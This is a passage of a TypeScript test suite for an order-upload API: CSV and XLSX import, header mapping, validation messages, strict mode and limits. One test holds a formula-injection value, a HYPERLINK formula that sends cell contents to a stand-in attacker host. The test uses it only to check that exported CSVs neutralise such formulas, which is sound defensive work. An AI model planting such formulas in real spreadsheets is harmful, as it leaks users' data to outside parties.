import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isFormulaLike } from '../../../platform/table-writer';
import {
  createTestMerchant,
  createTestPlatform,
  hostileXlsx,
  http,
  packPart,
  workbookParts,
  zipOf,
  type TestPlatform,
} from '../../../testing';
import { EVENT_CATALOGUE } from '../../events/catalogue';
import { prepareOrder } from '../service';
import { mapColumns, normaliseHeader } from './column-mapping';
import { validateGroup, type RowGroup } from './row-groups';
import { processQueuedUpload } from './service';

const HEADERS = [
  'Bestelnummer',
  'Naam',
  'E-mailadres',
  'Straße',
  'Code postal',
  'Woonplaats',
  'Pays',
  'Währung',
  'Vervoerder',
  'Artikelnummer',
  'Omschrijving',
  'Aantal',
  'Prix (en centimes)',
];

function row(reference: string, overrides: Partial<Record<number, string>> = {}): string[] {
  const cells = [
    reference,
    'Anna de Vries',
    'anna@example.nl',
    'Keizersgracht 123',
    '1015 CJ',
    'Amsterdam',
    'NL',
    'EUR',
    'POSTNL',
    'TSHIRT-M',
    'T-shirt M',
    '2',
    '1999',
  ];
  for (const [index, value] of Object.entries(overrides)) cells[Number(index)] = value ?? '';
  return cells;
}

function csvOf(rows: string[][], headers = HEADERS): string {
  const quote = (cell: string) => (/[",;\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
  return [headers, ...rows].map((r) => r.map(quote).join(';')).join('\n') + '\n';
}

async function upload(
  platform: TestPlatform,
  token: string,
  file: { content: string | Buffer; name: string },
  fields: Record<string, string> = {},
) {
  const form = new FormData();
  form.append('file', new Blob([file.content]), file.name);
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  const response = await fetch(`${platform.baseUrl}/api/orders/upload`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: form,
  });
  return { status: response.status, body: (await response.json()) as any };
}

describe('order upload', () => {
  let platform: TestPlatform;
  beforeAll(async () => {
    platform = await createTestPlatform({
      env: { ORDER_UPLOAD_MAX_BYTES: '3000000', ORDER_UPLOAD_MAX_ROWS: '12000' },
    });
  });
  afterAll(() => platform.close());

  const countOrders = async (merchantId: string) =>
    Number(
      (
        await platform.database.db
          .selectFrom('orders')
          .select((eb) => eb.fn.countAll().as('n'))
          .where('merchant_id', '=', merchantId)
          .executeTakeFirstOrThrow()
      ).n,
    );

  /** What an upload of this merchant left in the database: uploads and parked rows. */
  const leftovers = async (merchantId: string) => {
    const { db } = platform.database;
    const uploads = await db
      .selectFrom('order_uploads')
      .select('id')
      .where('merchant_id', '=', merchantId)
      .execute();
    const parked = uploads.length
      ? await db
          .selectFrom('order_upload_rows')
          .select('row_number')
          .where(
            'upload_id',
            'in',
            uploads.map((u) => u.id),
          )
          .execute()
      : [];
    return { uploads: uploads.length, parked: parked.length };
  };

  it('maps messy multilingual headers', () => {
    expect(normaliseHeader(' Straße ')).toBe('strasse');
    const mapping = mapColumns([...HEADERS, 'PLZ', 'Vorname/Nachname', 'Notes']);
    expect(Object.fromEntries(mapping.map((m) => [m.column, m.field]))).toMatchObject({
      Bestelnummer: 'merchant_reference',
      Naam: 'customer_name',
      'E-mailadres': 'customer_email',
      Straße: 'address_line1',
      'Code postal': 'postal_code',
      Woonplaats: 'city',
      Pays: 'country',
      Währung: 'currency',
      Aantal: 'quantity',
      PLZ: null, // postal_code is already claimed by "Code postal"
      'Vorname/Nachname': null,
      Notes: null,
    });
  });

  it('dry run returns the mapping, a preview and every row error, writing nothing', async () => {
    const merchant = await createTestMerchant(platform);
    const csv = csvOf([
      row('A-1'),
      row('A-1', { 9: 'SOCKS', 12: '500' }),
      row('A-2', { 2: 'not-mail' }),
      row('A-3', { 11: 'two' }),
    ]);
    const res = await upload(
      platform,
      merchant.token,
      { content: csv, name: 'orders.csv' },
      { dry_run: 'true' },
    );
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      dry_run: true,
      format: 'csv',
      rows_total: 4,
      orders_total: 3,
      upload: null,
    });
    expect(res.body.preview).toHaveLength(4);
    expect(res.body.preview[0]).toMatchObject({
      row: 2,
      values: { merchant_reference: 'A-1', quantity: '2' },
    });
    expect(res.body.errors).toEqual([
      { row: 4, column: 'E-mailadres', reason: expect.stringContaining('customer_email') },
      { row: 5, column: 'Aantal', reason: expect.stringContaining('quantity') },
    ]);
    expect(await countOrders(merchant.user.organization.id)).toBe(0);
    expect(await leftovers(merchant.user.organization.id)).toEqual({ uploads: 0, parked: 0 });
  });

  it('assembles each order from its rows wherever they are in the file', async () => {
    const merchant = await createTestMerchant(platform);
    // 2,400 rows, 800 orders of three lines each, a line of every order in each third of the file: an order's
    // rows lie 800 rows apart and the parked rows are read back across several pages.
    const rows = Array.from({ length: 2_400 }, (_, i) =>
      row(`S-${String(i % 800).padStart(3, '0')}`, { 9: `SKU-${Math.floor(i / 800)}`, 12: String(100 + i) }),
    );
    rows[1_605] = row('S-005', { 2: 'other@example.nl', 9: 'SKU-2' }); // disagrees with the first line of S-005
    const csv = csvOf(rows);
    const dry = await upload(platform, merchant.token, { content: csv, name: 'o.csv' }, { dry_run: 'true' });
    expect(dry.body).toMatchObject({ rows_total: 2_400, orders_total: 800 });
    // Every line of the order is rejected with it; the line at fault says why.
    expect(dry.body.errors).toEqual([
      { row: 7, column: null, reason: 'order S-005 is invalid (row 1607)' },
      { row: 807, column: null, reason: 'order S-005 is invalid (row 1607)' },
      expect.objectContaining({ row: 1_607, column: 'E-mailadres' }),
    ]);
    expect(await leftovers(merchant.user.organization.id)).toEqual({ uploads: 0, parked: 0 });

    const res = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
    expect(res.status).toBe(202);
    const done = await processQueuedUpload(platform.database.db, res.body.upload.id);
    expect(done).toMatchObject({ status: 'completed', created_count: 799, rejected_count: 3 });
    const found = await http(platform.baseUrl, 'GET', '/api/orders?q=S-799', { token: merchant.token });
    expect(found.body.items[0].items.map((i: { sku: string }) => i.sku)).toEqual(['SKU-0', 'SKU-1', 'SKU-2']);
    expect(found.body.items[0].items_total_minor).toBe(2 * (899 + 1_699 + 2_499));
    expect(await leftovers(merchant.user.organization.id)).toEqual({ uploads: 1, parked: 0 });
  }, 120_000);

  it('reads the merchant reference from the column a mapping sent after the file names', async () => {
    const merchant = await createTestMerchant(platform);
    const headers = HEADERS.map((h) => (h === 'Bestelnummer' ? 'Kenmerk' : h));
    const csv = csvOf([row('M-1'), row('M-1', { 9: 'SOCKS' }), row('M-2')], headers);
    const res = await upload(
      platform,
      merchant.token,
      { content: csv, name: 'o.csv' },
      { mapping: JSON.stringify({ Kenmerk: 'merchant_reference' }) },
    );
    expect(res.body.upload).toMatchObject({ status: 'completed', created_count: 2, rejected_count: 0 });
    expect(res.body.orders_total).toBe(2);
  });

  it('creates the valid orders, rejects the bad rows, and does not duplicate on re-upload', async () => {
    const merchant = await createTestMerchant(platform);
    const csv = csvOf([
      row('B-1'),
      row('B-1', { 9: 'SOCKS', 12: '500' }),
      row('B-2', { 6: 'XX' }),
      row('B-3'),
    ]);
    const first = await upload(platform, merchant.token, { content: csv, name: 'orders.csv' });
    expect(first.status).toBe(200);
    expect(first.body.upload).toMatchObject({
      status: 'completed',
      created_count: 2,
      existing_count: 0,
      rejected_count: 1,
      progress: 1,
    });
    expect(first.body.errors).toEqual([
      { row: 4, column: 'Pays', reason: expect.stringContaining('country') },
    ]);
    const order = await http(platform.baseUrl, 'GET', '/api/orders?q=B-1', { token: merchant.token });
    expect(order.body.items[0].items).toHaveLength(2);
    expect(order.body.items[0].total_minor).toBe(2 * 1999 + 2 * 500);

    const again = await upload(platform, merchant.token, { content: csv, name: 'orders.csv' });
    expect(again.body.upload).toMatchObject({ created_count: 0, existing_count: 2, rejected_count: 1 });
    expect(await countOrders(merchant.user.organization.id)).toBe(2);

    const rejected = await http(
      platform.baseUrl,
      'GET',
      `/api/orders/uploads/${first.body.upload.id}/rejected.csv`,
      {
        token: merchant.token,
      },
    );
    expect(rejected.status).toBe(200);
    const [header, ...lines] = parse(String(rejected.body), {}) satisfies string[][];
    expect(header).toEqual(['row', 'reason', 'column', ...HEADERS]);
    expect(lines).toEqual([['4', expect.stringContaining('country'), 'Pays', ...row('B-2', { 6: 'XX' })]]);

    const status = await http(platform.baseUrl, 'GET', `/api/orders/uploads/${first.body.upload.id}`, {
      token: merchant.token,
    });
    expect(status.body).toMatchObject({ id: first.body.upload.id, status: 'completed', rows_total: 4 });

    const other = await createTestMerchant(platform);
    const foreign = await http(platform.baseUrl, 'GET', `/api/orders/uploads/${first.body.upload.id}`, {
      token: other.token,
    });
    expect(foreign.status).toBe(404);
    const foreignCsv = await http(
      platform.baseUrl,
      'GET',
      `/api/orders/uploads/${first.body.upload.id}/rejected.csv`,
      {
        token: other.token,
      },
    );
    expect(foreignCsv.status).toBe(404);
  });

  it('creates each order of a file as createOrders would: its values, its fingerprint and its order.created event', async () => {
    const merchant = await createTestMerchant(platform);
    const headers = [
      ...HEADERS,
      'Telefoon',
      'Toevoeging',
      'ipay',
      'Verzendkosten',
      'Gewicht',
      'Lengte',
      'Breedte',
      'Hoogte',
    ];
    const extra = (cells: string[]) => (rowCells: string[]) => [...rowCells, ...cells];
    const plain = extra(['+31 6 12345678', '3 hoog', 'Nee', '495', '450', '300', '200', '50']);
    const rows = [
      // Quotes, a backslash, a line break, letters beyond ASCII, spaces around cells and codes in lower case: all
      // within what the set-based import takes, and what its fingerprint must escape as JSON.stringify does.
      plain(
        row('P-1', {
          1: ' Zoë "Zo" O\'Brien \\ Jr. ',
          3: 'Straße 5 – achter',
          5: 'Zürich',
          6: 'ch',
          7: 'chf',
          8: 'dhl',
          10: 'Tee\nshirt 東京',
        }),
      ),
      // Order fields on the first line only, as exports write them.
      plain(row('P-2')),
      [
        ...row('P-2', {
          1: '',
          2: '',
          3: '',
          4: '',
          5: '',
          6: '',
          7: '',
          8: '',
          9: 'SOCKS',
          11: '3',
          12: '500',
        }),
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
      ],
      // Left to the validator: a character JavaScript counts as two, a quantity written as a decimal.
      plain(row('P-3', { 10: 'Mug ☕ 🙂' })),
      plain(row('P-4', { 11: '2.0' })),
      row('P-5').concat(['', '', '', '', '', '', '', '']),
    ];
    const csv = csvOf(rows, headers);
    const result = await upload(platform, merchant.token, { content: csv, name: 'orders.csv' });
    expect(result.body.upload).toMatchObject({ status: 'completed', created_count: 5, rejected_count: 0 });

    const mapping = mapColumns(headers);
    const groups = new Map<string, RowGroup>();
    rows.forEach((cells, index) => {
      const group = groups.get(cells[0]!) ?? { reference: cells[0]!, rows: [] };
      group.rows.push({ row: index + 2, cells });
      groups.set(cells[0]!, group);
    });
    const { db } = platform.database;
    for (const group of groups.values()) {
      const validated = validateGroup(group, mapping);
      if (!validated.ok) throw new Error(`${group.reference} is invalid`);
      const prepared = prepareOrder(validated.input);
      const stored = await db
        .selectFrom('orders')
        .selectAll()
        .where('merchant_id', '=', merchant.user.organization.id)
        .where('merchant_reference', '=', group.reference)
        .executeTakeFirstOrThrow();
      expect({ reference: group.reference, fingerprint: stored.create_fingerprint }).toEqual({
        reference: group.reference,
        fingerprint: prepared.fingerprint,
      });
      expect(stored).toMatchObject({
        customer_name: validated.input.customer.name,
        customer_email: validated.input.customer.email.toLowerCase(),
        customer_phone: validated.input.customer.phone ?? null,
        address_line2: validated.input.customer.address.line2 ?? null,
        country: validated.input.customer.address.country,
        currency: validated.input.currency,
        carrier_code: validated.input.carrier_code,
        ipay_flag: validated.input.ipay_flag,
        items_total_minor: prepared.itemsTotal,
        total_minor: prepared.total,
        weight_grams: validated.input.weight_grams ?? null,
        height_mm: validated.input.dimensions_mm?.height ?? null,
      });
      const items = await db
        .selectFrom('order_items')
        .select(['position', 'sku', 'name', 'quantity', 'unit_price_minor', 'line_total_minor'])
        .where('order_id', '=', stored.id)
        .orderBy('position')
        .execute();
      expect(items).toEqual(prepared.items.map((item, position) => ({ position, ...item })));
      const events = await db
        .selectFrom('domain_events')
        .select(['type', 'payload', 'sequence'])
        .where('resource_type', '=', 'order')
        .where('resource_id', '=', stored.id)
        .execute();
      expect(events).toHaveLength(1);
      expect(events[0]).toMatchObject({ type: 'order.created', sequence: 1 });
      expect(EVENT_CATALOGUE['order.created'].payload.strict().parse(events[0]?.payload)).toEqual({
        orderId: stored.id,
        merchantReference: group.reference,
        totalMinor: prepared.total,
        currency: validated.input.currency,
        carrierCode: validated.input.carrier_code,
        ipayFlag: validated.input.ipay_flag,
      });
    }

    // The same order sent to POST /api/orders is the one the upload created: existing, not a conflict.
    const p1 = validateGroup(groups.get('P-1')!, mapping);
    if (!p1.ok) throw new Error('P-1 is invalid');
    const posted = await http(platform.baseUrl, 'POST', '/api/orders', {
      token: merchant.token,
      body: p1.input,
    });
    expect(posted.status).toBe(200);
  });

  it('numbers rows by the line they end on, whether PostgreSQL or the parser reads the file', async () => {
    const merchant = await createTestMerchant(platform);
    const quote = (cell: string) => (/[",\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
    const lines = [
      HEADERS,
      row('N-1'),
      row('N-2', { 6: 'XX', 10: 'two\nlines' }),
      row('N-3', { 11: '0' }),
    ].map((cells) => cells.map(quote).join(','));
    // Regular (read by COPY): a byte-order mark, CRLF line ends, a cell over two lines.
    const regular = `\ufeff${lines.join('\r\n')}\r\n`;
    // Irregular (read by the parser): an empty line and a row short of its last, empty, columns.
    const irregular = [
      lines[0],
      lines[1],
      '',
      lines[2],
      `${row('N-4', { 12: '' }).slice(0, 12).join(',')}`,
      lines[3],
    ].join('\n');
    const expectRows = async (content: string, rows: Array<[number, string]>) => {
      const result = await upload(platform, merchant.token, { content, name: 'o.csv' }, { dry_run: 'true' });
      expect(result.status).toBe(200);
      expect(result.body.errors.map((e: { row: number; column: string }) => [e.row, e.column])).toEqual(rows);
    };
    await expectRows(regular, [
      [4, 'Pays'],
      [5, 'Aantal'],
    ]);
    await expectRows(irregular, [
      [5, 'Pays'],
      [6, 'Prix (en centimes)'],
      [7, 'Aantal'],
    ]);
  });

  it('rejects an order whose lines disagree on an order field, naming the column and the line it differs from', async () => {
    const merchant = await createTestMerchant(platform);
    const blankOrderFields = { 1: '', 2: '', 3: '', 4: '', 5: '', 6: '', 7: '', 8: '' };
    const csv = csvOf([
      row('E-1'), // row 2
      row('E-1', { 2: 'bob@example.nl', 9: 'SOCKS' }), // row 3: another customer
      row('E-1', { 5: 'Rotterdam', 9: 'CAP' }), // row 4: another city
      row('E-2'), // row 5
      row('E-2', { ...blankOrderFields, 9: 'SOCKS' }), // row 6: order fields left to the first line
      row('E-3'), // row 7
      row('E-3', { 2: 'ANNA@example.nl', 5: ' amsterdam', 9: 'SOCKS' }), // row 8: same values, other case
      row('E-4', { 8: '' }), // row 9: no carrier on the first line…
      row('E-4', { 8: 'DHL', 9: 'SOCKS' }), // row 10: …it comes from the second
    ]);
    const dry = await upload(platform, merchant.token, { content: csv, name: 'o.csv' }, { dry_run: 'true' });
    expect(dry.body.errors).toEqual([
      { row: 2, column: null, reason: 'order E-1 is invalid (row 3)' },
      {
        row: 3,
        column: 'E-mailadres',
        reason: 'customer_email "bob@example.nl" differs from row 2 of the same order ("anna@example.nl")',
      },
      {
        row: 4,
        column: 'Woonplaats',
        reason: 'city "Rotterdam" differs from row 2 of the same order ("Amsterdam")',
      },
    ]);

    const res = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
    expect(res.body.upload).toMatchObject({ created_count: 3, rejected_count: 3 });
    expect(res.body.errors).toEqual(dry.body.errors);
    const orders = async (q: string) =>
      (await http(platform.baseUrl, 'GET', `/api/orders?q=${q}`, { token: merchant.token })).body.items;
    expect(await orders('E-1')).toHaveLength(0);
    const [e2] = await orders('E-2');
    expect(e2.items).toHaveLength(2);
    expect(e2.customer.address.city).toBe('Amsterdam');
    expect((await orders('E-4'))[0].carrier_code).toBe('DHL');
  });

  it('ends a small upload as failed when its import breaks inside the request', async () => {
    const merchant = await createTestMerchant(platform);
    const { db } = platform.database;
    await sql`
      create function refuse_boom_orders() returns trigger language plpgsql as $$
      begin
        if new.merchant_reference like 'BOOM-%' then raise exception 'simulated storage fault'; end if;
        return new;
      end $$`.execute(db);
    await sql`create trigger refuse_boom_orders before insert on orders
      for each row execute function refuse_boom_orders()`.execute(db);
    const res = await upload(platform, merchant.token, { content: csvOf([row('BOOM-1')]), name: 'o.csv' });
    expect(res.status).toBe(500);
    expect(JSON.stringify(res.body)).not.toContain('simulated storage fault');
    const uploads = await db
      .selectFrom('order_uploads')
      .select(['status', 'error'])
      .where('merchant_id', '=', merchant.user.organization.id)
      .execute();
    expect(uploads).toEqual([
      { status: 'failed', error: expect.stringContaining('after 1 attempt: an internal error') },
    ]);
  });

  it('strict creates nothing when one row is bad', async () => {
    const merchant = await createTestMerchant(platform);
    const csv = csvOf([row('C-1'), row('C-2'), row('C-3', { 12: '-5' })]);
    const res = await upload(
      platform,
      merchant.token,
      { content: csv, name: 'orders.csv' },
      { strict: 'true' },
    );
    expect(res.body.upload).toMatchObject({ strict: true, created_count: 0, rejected_count: 1 });
    expect(res.body.errors).toEqual([expect.objectContaining({ row: 4, column: 'Prix (en centimes)' })]);
    expect(await countOrders(merchant.user.organization.id)).toBe(0);
  });

  it('strict, through the job, creates nothing when one row of a large file is bad, and everything otherwise', async () => {
    const merchant = await createTestMerchant(platform);
    const rows = Array.from({ length: 1_500 }, (_, i) => row(`ST-${i}`));
    const bad = [...rows];
    bad[1_234] = row('ST-1234', { 11: 'many' });
    const refused = await upload(
      platform,
      merchant.token,
      { content: csvOf(bad), name: 'o.csv' },
      { strict: 'true' },
    );
    expect(refused.status).toBe(202);
    expect(await processQueuedUpload(platform.database.db, refused.body.upload.id)).toMatchObject({
      status: 'completed',
      strict: true,
      rows_processed: 1_500,
      created_count: 0,
      rejected_count: 1,
    });
    expect(await countOrders(merchant.user.organization.id)).toBe(0);
    const rejected = await http(
      platform.baseUrl,
      'GET',
      `/api/orders/uploads/${refused.body.upload.id}/rejected.csv`,
      {
        token: merchant.token,
      },
    );
    expect(String(rejected.body).trim().split('\n')).toHaveLength(2);

    const good = await upload(
      platform,
      merchant.token,
      { content: csvOf(rows), name: 'o.csv' },
      { strict: 'true' },
    );
    expect(await processQueuedUpload(platform.database.db, good.body.upload.id)).toMatchObject({
      status: 'completed',
      created_count: 1_500,
      rejected_count: 0,
    });
    expect(await countOrders(merchant.user.organization.id)).toBe(1_500);
  }, 120_000);

  it('honours a mapping override and names bad options', async () => {
    const merchant = await createTestMerchant(platform);
    const headers = HEADERS.map((h) => (h === 'Vervoerder' ? 'Shipper' : h));
    const csv = csvOf([row('D-1')], headers);
    const unmapped = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
    expect(unmapped.status).toBe(422);
    expect(unmapped.body.detail).toContain('carrier_code');
    const mapped = await upload(
      platform,
      merchant.token,
      { content: csv, name: 'o.csv' },
      { mapping: JSON.stringify({ Shipper: 'carrier_code' }) },
    );
    expect(mapped.body.upload).toMatchObject({ created_count: 1 });
    const bad = await upload(
      platform,
      merchant.token,
      { content: csv, name: 'o.csv' },
      { mapping: JSON.stringify({ Shipper: 'nope' }) },
    );
    expect(bad.status).toBe(400);
    expect(bad.body.errors[0].field).toBe('mapping.Shipper');
    // The refused uploads were parked while the file streamed in, and deleted with their rows.
    expect(await leftovers(merchant.user.organization.id)).toEqual({ uploads: 1, parked: 0 });
  });

  it('imports an XLSX generated with exceljs', async () => {
    const merchant = await createTestMerchant(platform);
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Bestellungen');
    sheet.addRow([
      'Bestellnummer',
      'Vor- und Nachname',
      'E-Mail-Adresse',
      'Anschrift',
      'PLZ',
      'Ort',
      'Land',
      'Devise',
      'Transporteur',
      'Artikelnr',
      'Bezeichnung',
      'Menge',
      'Stückpreis',
    ]);
    sheet.addRow([
      'X-1',
      'Jürgen Müller',
      'jm@example.de',
      'Hauptstraße 1',
      '10115',
      'Berlin',
      'DE',
      'EUR',
      'DHL',
      'MUG',
      'Tasse',
      3,
      899,
    ]);
    sheet.addRow([
      'X-2',
      'Jürgen Müller',
      'jm@example.de',
      'Hauptstraße 1',
      '10115',
      'Berlin',
      'DE',
      'EUR',
      'DHL',
      'MUG',
      'Tasse',
      0,
      899,
    ]);
    const buffer = Buffer.from(await workbook.xlsx.writeBuffer());
    const res = await upload(platform, merchant.token, { content: buffer, name: 'bestellungen.bin' });
    expect(res.status).toBe(200);
    expect(res.body.format).toBe('xlsx');
    expect(res.body.upload).toMatchObject({ created_count: 1, rejected_count: 1 });
    expect(res.body.errors).toEqual([expect.objectContaining({ row: 3, column: 'Menge' })]);
  });

  it('refuses a form that is not what its Content-Type claims, or breaks the form limits, with a 400 on body', async () => {
    const merchant = await createTestMerchant(platform);
    const post = async (contentType: string, body: string | FormData) => {
      const response = await fetch(`${platform.baseUrl}/api/orders/upload`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${merchant.token}`,
          ...(contentType ? { 'content-type': contentType } : {}),
        },
        body,
      });
      return {
        status: response.status,
        type: response.headers.get('content-type'),
        body: (await response.json()) as any,
      };
    };
    const noBoundary = await post('multipart/form-data', 'whatever');
    const cutShort = await post(
      'multipart/form-data; boundary=X',
      '--X\r\ncontent-disposition: form-data; name="file"; filename="a.csv"\r\n\r\nBestelnummer;Naam',
    );
    const twoFiles = new FormData();
    twoFiles.append('file', new Blob([csvOf([row('F-1')])]), 'a.csv');
    twoFiles.append('file', new Blob([csvOf([row('F-2')])]), 'b.csv');
    const tooManyFields = new FormData();
    for (let i = 0; i < 11; i++) tooManyFields.append(`option${i}`, 'x');
    for (const refused of [noBoundary, cutShort, await post('', twoFiles), await post('', tooManyFields)]) {
      expect(refused.status, JSON.stringify(refused.body)).toBe(400);
      expect(refused.type).toContain('application/problem+json');
      expect(refused.body.errors[0]).toMatchObject({ field: 'body', code: 'invalid_form' });
    }
    expect(await leftovers(merchant.user.organization.id)).toEqual({ uploads: 0, parked: 0 });
  });

  it('states the size and row limits', async () => {
    const merchant = await createTestMerchant(platform);
    const big = await upload(platform, merchant.token, { content: 'x'.repeat(3_100_000), name: 'big.csv' });
    expect(big.status).toBe(413);
    expect(big.body.detail).toContain('3000000 bytes');
    // Too big only after thousands of rows were parked.
    const long = Array.from({ length: 10_000 }, (_, i) => row(`L-${i}`, { 10: 'x'.repeat(300) }));
    const bigAfterRows = await upload(platform, merchant.token, { content: csvOf(long), name: 'long.csv' });
    expect(bigAfterRows.status).toBe(413);
    expect(bigAfterRows.body.errors[0].field).toBe('file');
    const rows = Array.from({ length: 12_001 }, (_, i) => row(`R-${i}`));
    const many = await upload(platform, merchant.token, { content: csvOf(rows), name: 'many.csv' });
    expect(many.status).toBe(422);
    expect(many.body.detail).toContain('12000 rows');
    const unreadable = await upload(platform, merchant.token, {
      content: Buffer.from([0x50, 0x4b, 0x03, 0x04, 1, 2]),
      name: 'x.xlsx',
    });
    expect(unreadable.status).toBe(422);
    // A refused file leaves no upload and no parked rows behind.
    expect(await leftovers(merchant.user.organization.id)).toEqual({ uploads: 0, parked: 0 });
  });

  it('serves the rejected rows of a large upload page by page, each once and in file order', async () => {
    const merchant = await createTestMerchant(platform);
    const rows = Array.from({ length: 2_500 }, (_, i) => row(`BAD-${i}`, { 2: 'not-an-email' }));
    const res = await upload(platform, merchant.token, { content: csvOf(rows), name: 'bad.csv' });
    expect(res.status).toBe(202);
    expect(await processQueuedUpload(platform.database.db, res.body.upload.id)).toMatchObject({
      status: 'completed',
      created_count: 0,
      rejected_count: 2_500,
    });
    const rejected = await http(
      platform.baseUrl,
      'GET',
      `/api/orders/uploads/${res.body.upload.id}/rejected.csv`,
      {
        token: merchant.token,
      },
    );
    expect(rejected.status).toBe(200);
    expect(rejected.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const lines = String(rejected.body).trim().split('\n');
    expect(lines).toHaveLength(2_501);
    expect(lines.slice(1).map((line) => Number(line.split(',')[0]))).toEqual(
      Array.from({ length: 2_500 }, (_, i) => i + 2),
    );
  }, 120_000);

  it('hands a 10,000-row file to the job, which imports it with progress', async () => {
    const merchant = await createTestMerchant(platform);
    // 5,000 orders of two lines each; every 1,000th order has a bad e-mail on its first line.
    const rows = Array.from({ length: 10_000 }, (_, i) => {
      const order = Math.floor(i / 2);
      return row(`BIG-${order}`, {
        2: order % 1000 === 0 ? 'broken' : 'anna@example.nl',
        9: i % 2 ? 'SOCKS' : 'TSHIRT-M',
      });
    });
    const res = await upload(platform, merchant.token, { content: csvOf(rows), name: 'big.csv' });
    expect(res.status).toBe(202);
    expect(res.body.upload).toMatchObject({ status: 'queued', rows_total: 10_000, progress: 0 });
    const done = await processQueuedUpload(platform.database.db, res.body.upload.id);
    expect(done).toMatchObject({
      status: 'completed',
      created_count: 4995,
      rejected_count: 10,
      rows_processed: 10_000,
    });
    expect(await countOrders(merchant.user.organization.id)).toBe(4995);
    const events = await platform.database.db
      .selectFrom('domain_events')
      .select(['type', 'payload'])
      .where('resource_id', '=', res.body.upload.id)
      .orderBy('stream_position')
      .execute();
    const progress = events
      .filter((e) => e.type === 'order_upload.progress')
      .map((e) => e.payload as { rowsProcessed: number; created: number; rejected: number });
    expect(progress.length).toBeGreaterThan(10);
    // Ranges are imported two at a time: each adds its own counts, so the stream shows them only growing, and
    // the last progress event has them all.
    const processed = progress.map((p) => p.rowsProcessed);
    expect(processed).toEqual([...processed].sort((a, b) => a - b));
    expect(new Set(processed).size).toBe(processed.length);
    expect(progress.at(-1)).toMatchObject({ rowsProcessed: 10_000, created: 4995, rejected: 10 });
    expect(events.filter((e) => e.type === 'order_upload.completed')).toHaveLength(1);
  }, 240_000);

  /** The rejected rows of an upload as { row, column, reason }, read back from rejected.csv. */
  async function rejectedCsv(token: string, uploadId: string) {
    const res = await http(platform.baseUrl, 'GET', `/api/orders/uploads/${uploadId}/rejected.csv`, {
      token,
    });
    const [, ...records] = parse(String(res.body), {}) satisfies string[][];
    return {
      records,
      errors: records.map(([row, reason, column]) => ({ row: Number(row), column: column || null, reason })),
    };
  }

  it('words every row error for the merchant, naming every failing column, alike in the dry run, the real run and rejected.csv', async () => {
    const merchant = await createTestMerchant(platform);
    const csv = csvOf([
      row('W-1', { 2: 'not-mail', 11: '0', 12: 'abc' }), // row 2: three columns wrong
      row('W-1', { 2: 'not-mail', 9: 'SOCKS' }), // row 3: the order's e-mail is blamed on row 2
      row('W-2', { 6: '', 11: '1.5' }), // row 4: no country, half a unit
      row('W-3'), // row 5: fine
    ]);
    const dry = await upload(platform, merchant.token, { content: csv, name: 'o.csv' }, { dry_run: 'true' });
    const real = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
    const fromCsv = await rejectedCsv(merchant.token, real.body.upload.id);
    expect(dry.body.errors).toEqual([
      {
        row: 2,
        column: 'E-mailadres, Aantal, Prix (en centimes)',
        reason:
          'customer_email must be an e-mail address such as anna@example.nl, not "not-mail"; ' +
          'quantity must be a whole number of at least 1 and at most 100,000, not "0"; ' +
          'unit_price_minor must be a whole number of cents, 0 or more (1999 for 19.99), not "abc"',
      },
      { row: 3, column: null, reason: 'order W-1 is invalid (row 2)' },
      {
        row: 4,
        column: 'Pays, Aantal',
        reason:
          'country is empty: it must be a two-letter country code such as NL; ' +
          'quantity must be a whole number of at least 1 and at most 100,000, not "1.5"',
      },
    ]);
    expect(real.body.errors).toEqual(dry.body.errors);
    expect(fromCsv.errors).toEqual(dry.body.errors);
    // The validator's own words ("Too small: expected number to be >=1", "received NaN") never reach a merchant.
    expect(JSON.stringify(dry.body.errors)).not.toMatch(/Too small|Invalid|expected|received|NaN|>=/);
  });

  it('neutralises formula cells in rejected.csv, and reads a fixed rejected.csv back as the merchant wrote it', async () => {
    const merchant = await createTestMerchant(platform);
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
    const csv = csvOf([row('F-1', { 1: hyperlink, 2: 'not-mail', 10: '@SUM(1,2)' })]);
    const first = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
    const { records } = await rejectedCsv(merchant.token, first.body.upload.id);
    expect(records.flat().filter((cell) => isFormulaLike(cell))).toEqual([]);
    expect(records[0]?.slice(3, 6)).toEqual(['F-1', `'${hyperlink}`, 'not-mail']);

    // The merchant fixes the e-mail in the downloaded file and uploads it again.
    const fixed = records.map((r) => r.map((cell) => (cell === 'not-mail' ? 'anna@example.nl' : cell)));
    const again = await upload(platform, merchant.token, {
      content: csvOf(fixed, ['row', 'reason', 'column', ...HEADERS]),
      name: 'fixed.csv',
    });
    expect(again.body.upload).toMatchObject({ created_count: 1, rejected_count: 0 });
    const [order] = (await http(platform.baseUrl, 'GET', '/api/orders?q=F-1', { token: merchant.token })).body
      .items;
    expect(order.customer.name).toBe(hyperlink);
    expect(order.items[0].name).toBe('@SUM(1,2)');
  });

  it('reports a NUL or a byte that is not UTF-8 in a cell as a row error naming the column, never a 500', async () => {
    const merchant = await createTestMerchant(platform);
    const csv = Buffer.concat([
      Buffer.from(csvOf([row('N-1', { 1: 'Anna\u0000 de Vries' }), row('N-2')])),
      Buffer.from('N-3;Anna;anna@example.nl;Keizersgracht 1;1015 CJ;Amst'),
      Buffer.from([0xff, 0xfe]),
      Buffer.from('rdam;NL;EUR;POSTNL;MUG;Mok;1;899\n'),
    ]);
    const unreadable = (field: string) =>
      `${field} holds characters that are not text (a NUL byte or bytes that are not UTF-8); save the file as CSV UTF-8 or XLSX`;
    const expected = [
      { row: 2, column: 'Naam', reason: unreadable('customer_name') },
      { row: 4, column: 'Woonplaats', reason: unreadable('city') },
    ];
